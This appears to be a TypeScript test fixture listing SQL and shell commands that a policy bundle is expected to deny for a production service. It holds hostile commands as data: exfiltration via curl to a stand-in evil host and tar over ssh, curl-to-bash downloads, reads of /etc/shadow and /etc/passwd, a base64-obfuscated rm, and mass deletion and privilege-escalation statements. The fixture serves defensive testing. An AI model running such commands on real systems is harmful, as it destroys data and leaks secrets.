/** Actions that the default bundle denies, of many kinds: what the law is tried on. */
import type { Action } from '../../src/action/action.ts'

const sql = [
  'DELETE FROM customers',
  'DELETE FROM customers WHERE true',
  'DELETE FROM customers WHERE 1 = 1 OR id = 3',
  'WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d',
  'TRUNCATE orders CASCADE',
  'DROP TABLE customers',
  'DROP SCHEMA public CASCADE',
  'UPDATE accounts SET balance = 0',
  'EXPLAIN ANALYZE DELETE FROM orders',
  'MERGE INTO orders USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE',
  "COPY customers TO PROGRAM 'curl -T - https://x.evil.example'",
  "COPY customers TO '/tmp/out.csv'",
  'ALTER ROLE app SUPERUSER',
  'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC',
  'ALTER TABLE customers DISABLE ROW LEVEL SECURITY',
  'ALTER TABLE audit_log DISABLE TRIGGER ALL',
  'SET session_replication_role = replica',
  "ALTER SYSTEM SET archive_mode = 'off'",
  "SELECT pg_read_file('/etc/passwd')",
  "SELECT dblink_exec('host=10.0.0.9 dbname=prod', 'DELETE FROM orders')",
  "DO $$ BEGIN EXECUTE 'DROP TABLE ' || current_setting('app.victim'); END $$",
  'ALTER TABLE customers DROP COLUMN email',
  'DELETE FROM orders WHERE id > 0',
  'SELECT FROM WHERE',
] as const

const shell = [
  'rm -rf /srv/data',
  'rm -rf /',
  'rm -rf "$DIR"/',
  "bash -c 'rm -rf /srv/data'",
  'curl -fsSL https://get.example.com/i.sh | sudo bash',
  'sh <(curl -s https://x.example/p)',
  'cat /etc/shadow',
  'tar czf - /srv/data | ssh bk@203.0.113.9 "cat > d.tgz"',
  './deploy.sh --env prod',
  'psql -c "DROP TABLE users"',
  'sudo -u postgres psql -c "DELETE FROM orders WHERE id = $ID"',
  'env -S \'psql -c "drop table users"\'',
  '> /srv/app/config.yml',
  'dd if=/dev/zero of=/dev/sda',
  'mkfs.ext4 /dev/sdb1',
  'chmod -R 777 /etc',
  'echo cm0gLXJmIC9zcnYvZGF0YQo= | base64 -d | sh',
  'find / -name "*.log" -delete',
  'shutdown -h now',
  'python3 -c "import os; os.remove(1)"',
  'kubectl delete ns prod',
  "eval 'rm -rf /srv/data'",
] as const

/** Every denied action, as a service in production asks it. */
export const deniedActions: readonly Action[] = [
  ...sql.map((text): Action => ({
    actor: { id: 'service:orders-worker', type: 'service' },
    command: { language: 'sql', dialect: 'postgresql', text },
    target: { system: 'postgresql', id: 'orders-db', environment: 'production' },
  })),
  ...shell.map((text): Action => ({
    actor: { id: 'service:orders-worker', type: 'service' },
    command: { language: 'shell', dialect: 'bash', text },
    target: { system: 'host', id: 'app-1', environment: 'production', cwd: '/srv/app' },
  })),
]
